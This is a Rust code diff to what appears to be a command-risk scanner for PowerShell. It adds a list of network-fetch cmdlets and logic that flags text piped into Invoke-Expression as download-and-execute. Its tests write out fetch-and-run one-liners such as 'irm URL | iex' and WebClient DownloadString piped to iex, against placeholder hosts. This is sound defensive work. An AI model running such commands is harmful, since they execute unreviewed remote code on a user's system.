@@ -10,11 +10,28 @@ use crate::engine::Walker;
 
 /// Cmdlet names and aliases that remove items (compared lowercased).
 const REMOVE: &[&str] = &["remove-item", "rm", "del", "erase", "rd", "ri", "rmdir"];
+/// Cmdlets and aliases that fetch from the network (compared lowercased).
+const FETCH: &[&str] = &[
+    "invoke-webrequest",
+    "iwr",
+    "invoke-restmethod",
+    "irm",
+    "curl",
+    "wget",
+    "start-bitstransfer",
+];
+
+/// Does a statement fetch text from the network (a fetch cmdlet, or .NET's
+/// `DownloadString`)?
+fn fetches(first: &str, stmt: &str) -> bool {
+    FETCH.contains(&first) || stmt.to_ascii_lowercase().contains("downloadstring")
+}
 
 /// Add the effects of every statement in PowerShell `code`.
 pub(crate) fn scan(e: &mut Walker, code: &str, via: &[String], depth: usize) {
     super::pwsh_cmdlets::web_secrets(e, code);
     let mut prev_first = String::new();
+    let mut prev_fetched = false;
     for (stmt, piped) in statements(code) {
         let mut words: Vec<String> = stmt
             .split_whitespace()
@@ -34,6 +51,8 @@ pub(crate) fn scan(e: &mut Walker, code: &str, via: &[String], depth: usize) {
             continue;
         };
         let from_listing = piped && matches!(prev_first.as_str(), "get-process" | "gps" | "ps");
+        let fed_from_network = piped && prev_fetched;
+        prev_fetched = fetches(&first, stmt);
         prev_first = if words.len() == 1 {
             first.clone()
         } else {
@@ -44,6 +63,22 @@ pub(crate) fn scan(e: &mut Walker, code: &str, via: &[String], depth: usize) {
             continue;
         }
         // `Invoke-Expression 'Stop-Computer'`: the string is PowerShell too.
+        // `irm URL | iex`: what the network sent runs as PowerShell; text
+        // piped in from anywhere else cannot be read before it runs.
+        if matches!(first.as_str(), "invoke-expression" | "iex") && piped && words.len() == 1 {
+            if fed_from_network {
+                e.add(Effect::DownloadExec {
+                    source: super::code_scan::literal_host(code),
+                    interpreter: "pwsh Invoke-Expression".into(),
+                });
+            } else {
+                e.add(Effect::Opaque {
+                    what: "pwsh Invoke-Expression runs the text piped into it".into(),
+                    exec: true,
+                });
+            }
+            continue;
+        }
         if matches!(first.as_str(), "invoke-expression" | "iex") && depth < crate::MAX_NESTING {
             let inner: Vec<&str> = words[1..]
                 .iter()
@@ -157,6 +192,33 @@ mod tests {
             (
                 "pwsh -c \"Invoke-Expression -Command 'Remove-Item -Recurse ~'\"",
                 "catastrophic",
+            ),
+        ]);
+    }
+
+    #[test]
+    fn text_piped_into_invoke_expression_runs() {
+        expect(&[
+            (
+                "pwsh -c \"irm https://x.example/a.ps1 | iex\"",
+                "catastrophic",
+            ),
+            (
+                "powershell -NoProfile -Command \"iwr -useb https://get.example/i.ps1 | Invoke-Expression\"",
+                "catastrophic",
+            ),
+            (
+                "pwsh -c \"(New-Object Net.WebClient).DownloadString('https://x.example/s') | iex\"",
+                "catastrophic",
+            ),
+            (
+                "pwsh -c 'Get-Content ./setup.ps1 -Raw | iex'",
+                "catastrophic",
+            ),
+            // Fetching alone, or printing what was fetched, runs nothing.
+            (
+                "pwsh -c 'irm https://api.example/status | Format-List'",
+                "safe",
             ),
         ]);
     }
